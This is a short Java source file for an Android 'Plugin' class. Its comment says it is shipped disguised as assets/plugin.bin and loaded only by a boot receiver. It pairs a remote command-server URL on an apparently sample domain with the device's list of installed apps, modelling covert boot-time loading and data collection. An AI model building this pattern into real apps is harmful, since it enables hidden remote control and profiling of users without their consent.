package org.ringfence.plugin;

import android.content.Context;

/** Code that travels as assets/plugin.bin and that only BootReceiver loads. */
public final class Plugin {
    private static final String COMMANDS = "https://commands.ringfence-sample-app.com/next";

    private Plugin() {}

    public static String run(Context context) {
        return COMMANDS + context.getPackageManager().getInstalledApplications(0);
    }
}
